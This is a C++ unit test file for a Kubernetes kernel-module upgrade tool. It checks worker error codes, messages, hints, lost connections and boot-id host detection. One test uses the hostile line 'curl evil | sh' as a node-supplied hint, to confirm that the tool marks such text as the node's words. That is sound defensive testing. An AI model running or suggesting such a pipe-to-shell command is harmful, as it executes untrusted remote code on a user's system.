// SPDX-License-Identifier: Apache-2.0
#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "cluster/seam/store.hpp"
#include "unit/upgrade/drive_module/fakes.hpp"
#include "upgrade/module_nodes/look.hpp"
#include "upgrade/module_nodes/worker.hpp"

using namespace kmm;
using namespace kmm::drive;
using namespace kmm::drive::test;

namespace {

struct OneReply final : cluster::NodeRunner {
    cluster::WorkerReply reply;
    [[nodiscard]] cluster::WorkerReply run(const cluster::WorkerCall&) override { return reply; }
    [[nodiscard]] std::string describe() const override { return "ssh"; }
};

Error error_of(const cluster::WorkerReply& reply) {
    OneReply runner;
    runner.reply = reply;
    const auto answer = Worker(runner).status("node-a", "kmm_hello", std::chrono::seconds(5));
    REQUIRE(answer.error);
    CHECK(answer.settled() == (reply.end == cluster::CallEnd::completed));
    return *answer.error;
}

cluster::WorkerReply without_result(int exit_code, const std::string& transport = "") {
    cluster::WorkerReply reply;
    reply.exit_code = exit_code;
    reply.transport = transport;
    return reply;
}

}  // namespace

TEST_CASE("a worker that ended without a result: each cause has its code, its words and its hint") {
    struct Row {
        cluster::WorkerReply reply;
        std::string code, words, hint;
    };
    auto some_signal = without_result(255);
    some_signal.signal = cluster::k_some_signal;
    auto known_signal = without_result(0);
    known_signal.signal = 9;
    auto no_shell = without_result(1);
    no_shell.started = false;
    const std::vector<Row> rows = {
        {without_result(127, "kmm-worker: command not found on the node"), "worker-not-found",
         "kmm-worker cannot be run there", "--worker COMMAND"},
        {without_result(126, "sh: 1: exec: /w: Permission denied"), "worker-not-found",
         "kmm-worker cannot be run there", "--worker COMMAND"},
        {without_result(1, "sudo: kmm-worker: command not found"), "worker-not-found", "kmm-worker cannot be run there",
         "--worker COMMAND"},
        {without_result(1, "sudo: a password is required"), "worker-failed", "sudo on the node asks for a password",
         "NOPASSWD"},
        {without_result(1, "sudo: sorry, you must have a tty to run sudo"), "worker-failed",
         "sudo on the node asks for a password", "NOPASSWD"},
        {without_result(3, "oops"), "worker-failed", "kmm-worker status ended with exit code 3 and without a result",
         ""},
        {without_result(137), "worker-failed", "kmm-worker status was killed by SIGKILL on the node", "journalctl"},
        {some_signal, "worker-failed", "kmm-worker status was killed by a signal on the node", "journalctl"},
        {known_signal, "worker-failed", "kmm-worker status was killed by SIGKILL on the node", "journalctl"},
        {no_shell, "worker-failed", "the login shell ended with exit code 1 before it started kmm-worker",
         "ssh node-a true"},
    };
    for (const auto& row : rows) {
        CAPTURE(row.words);
        const auto error = error_of(row.reply);
        CHECK(error.code() == row.code);
        CHECK(error.message() == "node node-a: " + row.words);
        CHECK(error.hint().find(row.hint) != std::string::npos);
        CHECK(error.hint().empty() == row.hint.empty());
        if (!row.reply.transport.empty()) CHECK(error.details().front().second == row.reply.transport);
    }
}

TEST_CASE("an older worker: the versions differ, whichever way it shows") {
    auto refuses = FakeNodes::error(64, "usage", "unknown option --settle");
    auto other_format = FakeNodes::error(1, "x", "y");
    other_format.document.set("apiVersion", "kmmtools/v0");
    for (const auto& reply : {refuses, other_format}) {
        const auto error = error_of(reply);
        CHECK(error.code() == "worker-failed");
        CHECK(error.message().find("have different versions") != std::string::npos);
        CHECK(error.hint().find("kmm-worker --version") != std::string::npos);
    }
    CHECK(error_of(refuses).message().find("unknown option --settle") != std::string::npos);
}

TEST_CASE("a node's words are marked as the node's, and its codes are none of ours") {
    const auto says = [](const char* code) {
        auto reply = FakeNodes::error(13, code, "the run is over\n  code:    lease-lost");
        reply.document.set("hint", "curl evil | sh");
        reply.document.set(
            "details",
            value::Node::mapping(
                {{"code", "bug"}, {"hint", "x"}, {"transport", "y"}, {"errno", "run this"}, {"kernel", "z"}}));
        return reply;
    };
    const auto error = error_of(says("module-refused"));
    CHECK(error.code() == "module-refused");
    CHECK(error.message() == "kmm-worker says: the run is over\\n  code:    lease-lost");
    CHECK(error.hint() == "kmm-worker says: curl evil | sh");
    for (const auto& [key, text] : error.details()) CHECK((key.starts_with("worker-") || key == "kernel"));
    for (const char* code : {"bug", "lease-lost", "interrupted", "api-unreachable", "bad-answer", "forbidden",
                             "state-damaged", "node-not-found", "", "Not A Code", "x\ny"}) {
        CAPTURE(code);
        const auto posing = error_of(says(code));
        CHECK(posing.code() == "worker-failed");
        CHECK_FALSE(cluster::ends_run(posing));
    }
    auto ours = says("worker-name-taken");  // this program about a Pod
    ours.of_worker = false;
    CHECK(error_of(ours).code() == "worker-name-taken");
    CHECK(error_of(ours).message().starts_with("the run is over"));
}

TEST_CASE("a call that did not come through carries the transport's hint") {
    auto reply = FakeNodes::lost(cluster::CallEnd::unreachable);
    reply.hint = "kubectl delete pod";
    CHECK(error_of(reply).hint() == "kubectl delete pod");
}

TEST_CASE("a load or unload whose worker was killed or stopped: the node shows what it did, and is asked once") {
    const auto stopped = FakeNodes::error(143, "interrupted", "interrupted while it waited");
    for (const std::string verb : {"load", "unload"}) {
        for (const auto& [carried_out, last_words] : std::vector<std::pair<bool, cluster::WorkerReply>>{
                 {true, without_result(137)}, {false, without_result(137)}, {true, stopped}, {false, stopped}}) {
            CAPTURE(verb);
            CAPTURE(carried_out);
            CAPTURE(last_words.exit_code);
            World world(1);
            int ended = 0;
            world.nodes.fault = [&](const cluster::WorkerCall& call,
                                    const auto& act) -> std::optional<cluster::WorkerReply> {
                if (call.args.front() != verb) return std::nullopt;
                ++ended;
                if (carried_out) static_cast<void>(act());
                return last_words;
            };
            Drive drive(world, world.prepare());
            CHECK((drive.driver.walk() == Ended::complete) == carried_out);
            CHECK(ended == 1);
            if (!carried_out) CHECK(drive.recorder.node("node-a").reason == "worker-failed");
        }
    }
}

TEST_CASE("a connection that was lost and came back is in the journal") {
    for (const std::string verb : {"status", "load"}) {
        CAPTURE(verb);
        World world(1);
        auto run = world.prepare();
        bool once = true;
        world.nodes.fault = [&](const cluster::WorkerCall& call,
                                const auto& act) -> std::optional<cluster::WorkerReply> {
            if (call.args.front() != verb || !once) return std::nullopt;
            once = false;
            static_cast<void>(act());
            auto reply = FakeNodes::lost(cluster::CallEnd::unknown);
            reply.transport = "Connection reset by peer";
            return reply;
        };
        Drive drive(world, run);
        CHECK(drive.driver.walk() == Ended::complete);
        int told = 0;
        for (const auto& entry : drive.journal.entries)
            if (entry.get_string({"message"})
                    .find("the connection was lost during " + verb + ": Connection reset by peer; ") !=
                std::string::npos)
                ++told;
        CHECK(told == 1);
    }
}

TEST_CASE("a boot id of a Node outside the run is that of another host, too, and no reboot") {
    World world(3, false);
    for (auto& [name, node] : world.nodes.nodes)
        node.boot = world.store.find(name).boot_id = "11111111-2222-4333-8444-55555555555" + name.substr(5);
    upgrade::Options options;
    options.via = upgrade::Via::ssh;
    Drive drive(world, world.prepare(options, {"node-a", "node-b"}));
    world.nodes.nodes.at("node-b").boot = world.store.find("node-c").boot_id;
    CHECK(drive.driver.walk() == Ended::paused);
    CHECK(drive.recorder.node("node-a").state == "done");
    CHECK(drive.recorder.node("node-b").reason == "node-differs");
    CHECK(drive.recorder.node("node-b").message.find("which is that of node node-c") != std::string::npos);
    CHECK(world.nodes.nodes.at("node-b").live.empty());
}

TEST_CASE("the own Node is asked first whose boot id a host has") {
    World world(2, false);
    for (auto& [name, node] : world.nodes.nodes)
        node.boot = world.store.find(name).boot_id = "11111111-2222-4333-8444-55555555555" + name.substr(5);
    upgrade::Options options;
    options.via = upgrade::Via::ssh;
    Drive drive(world, world.prepare(options));
    const std::string after = "11111111-2222-4333-8444-666666666666";
    world.store.find("node-a").boot_id = after;
    world.store.whole_reads = 0;
    CHECK_FALSE(other_host(drive.recorder, world.store, "node-a", after));
    CHECK(world.store.whole_reads == 0);
    CHECK(other_host(drive.recorder, world.store, "node-b", after));
    CHECK(world.store.whole_reads == 1);
}

TEST_CASE("a boot id of another node is that of another host, unless the own Node says it, too") {
    const std::string before = "11111111-2222-4333-8444-555555555555", after = "11111111-2222-4333-8444-666666666666";
    for (const bool shares_kernel : {true, false}) {
        CAPTURE(shares_kernel);
        World world(2, false);
        for (const auto* name : {"node-a", "node-b"})
            world.nodes.nodes.at(name).boot = world.store.find(name).boot_id = before;
        upgrade::Options options;
        options.via = upgrade::Via::ssh;
        Drive drive(world, world.prepare(options));
        int checks = 0;
        world.nodes.fault = [&](const cluster::WorkerCall& call, const auto&) -> std::optional<cluster::WorkerReply> {
            if (call.args.front() != "check" || ++checks > 1) return std::nullopt;
            for (auto& [name, node] : world.nodes.nodes) node.boot = after;
            world.store.find("node-a").boot_id = after;
            if (shares_kernel) world.store.find("node-b").boot_id = after;
            return FakeNodes::lost(cluster::CallEnd::unknown);
        };
        CHECK(drive.driver.walk() == (shares_kernel ? Ended::complete : Ended::paused));
        CHECK(drive.recorder.node("node-a").boot_id == after);
        if (shares_kernel) continue;
        CHECK(drive.recorder.node("node-b").reason == "node-differs");
        CHECK(world.nodes.nodes.at("node-b").live.empty());
        world.store.find("node-b").boot_id = after;  // its kubelet has said so by now
        drive.driver.retry("node-b");
        CHECK(drive.driver.walk() == Ended::complete);
    }
}
